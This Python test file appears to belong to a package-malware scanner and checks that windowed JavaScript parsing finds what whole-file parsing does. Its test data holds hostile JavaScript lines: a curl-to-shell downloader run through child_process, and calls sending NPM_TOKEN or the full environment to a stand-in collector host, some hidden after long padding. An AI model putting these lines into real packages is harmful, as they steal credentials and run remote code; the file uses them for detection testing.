"""JavaScript larger than the per-file tree budget is parsed in windows (issue 21): what the walk
finds over one whole tree it finds over windows, a payload after padding included, and a window
that starts inside a function knows it is in one."""

from __future__ import annotations

import pytest

from outwork.analyzers.packages import PackageAnalyzer
from outwork.analyzers.packages.jsscan import scan_javascript
from outwork.analyzers.packages.signals import Context
from outwork.core.analyzer import AnalysisContext
from outwork.core.artifact import Artifact, Kind
from outwork.core.budgets import Budgets
from outwork.core.findings import Finding
from outwork.core.rules import Severity

WINDOW = 8192
WHOLE = 1 << 30
#: a downloader piped into a shell (an unroutable documentation address)
PAYLOAD = "require('child_process').exec('curl -s http://192.0.2.7/s.sh | sh');\n"


def padding(size: int) -> str:
    """Minified-looking code: one line of declarations, calls and literals."""
    unit = 'var a0=[1,"x;y",/a;b/g].map(function(x){return x*2});'
    return unit * (size // len(unit) + 1)


def signals(text: str, window: int, ctx: Context = Context.IMPORT) -> set[tuple[str, str, str]]:
    return {
        (s.rule.code, s.severity.name, f"{s.line}: {s.message}")
        for s in scan_javascript(text, "", ctx, window)
    }


@pytest.mark.parametrize("ctx", [Context.IMPORT, Context.INSTALL])
@pytest.mark.parametrize(
    "code",
    [
        # a payload after padding, at the top of the module
        padding(60_000) + PAYLOAD,
        # an alias bound in the first window, called in the last
        "const cp = require('child_process');\n"
        + padding(60_000)
        + "\ncp.exec('curl -s http://192.0.2.7/s.sh | sh');\n",
        # a configured variable sent from inside a function that starts windows before: medium
        # there, critical at the module's top level (where it would be after a misread edge)
        "const https = require('https');\nfunction later(){\n"
        + padding(40_000)
        + "\nhttps.get('https://collector.invalid/?t=' + process.env.NPM_TOKEN);\n}\n",
        # after that function closed: the module's own top level again
        "const https = require('https');\nfunction later(){\n"
        + padding(40_000)
        + "\n}\n"
        + padding(3000)
        + "\nhttps.get('https://collector.invalid/?t=' + process.env.NPM_TOKEN);\n",
        # a method after a long method of a class in an object in a call: still a method
        "const https = require('https');\ndefine({main: function(){\nclass C {\none(){\n"
        + padding(40_000)
        + "\n}\ntwo(){ https.get('https://collector.invalid/?t=' + process.env.NPM_TOKEN); }\n"
        "}\n}});\n",
        # the environment read in a function, padding, then sent from the same function
        "const https = require('https');\nfunction f(){\nvar e = process.env;\n"
        + padding(40_000)
        + "\nhttps.get('https://collector.invalid/?d=' + JSON.stringify(e));\n}\nf();\n",
        # the same name in another function that reads nothing: not the environment
        "const https = require('https');\nfunction f(){\nvar e = process.env;\n"
        + padding(40_000)
        + "\n}\nfunction g(e){\nhttps.get('https://collector.invalid/?d=' + JSON.stringify(e));"
        "\n}\n" + PAYLOAD,
    ],
    ids=["padded", "alias", "in-function", "after-function", "in-class", "taint", "other-scope"],
)
def test_windows_find_what_the_whole_tree_finds(code: str, ctx: Context) -> None:
    whole = signals(code, WHOLE, ctx)
    assert whole, "the case must draw something for the comparison to mean anything"
    assert signals(code, WINDOW, ctx) == whole


def test_a_payload_after_padding_is_found_high_through_the_scans_budgets() -> None:
    data = (padding(200_000) + "\n" + PAYLOAD).encode()
    artifact = Artifact(path="dist/bundle.js", kind=Kind.JAVASCRIPT, size=len(data), data=data)
    context = AnalysisContext(budgets=Budgets(max_tree_bytes=48 * WINDOW))
    found = [f for f in PackageAnalyzer().analyze(artifact, context) if isinstance(f, Finding)]
    assert any(f.code == "PKG015" and f.severity >= Severity.HIGH for f in found), found
    assert all(f.location.line == 2 for f in found if f.code == "PKG015")


def test_code_inside_a_string_longer_than_the_window_is_not_read_as_code() -> None:
    code = "var s = '" + "require(\\'child_process\\').exec(\\'x\\');" * 3000 + "';\n"
    assert signals(code, WINDOW) == signals(code, WHOLE)
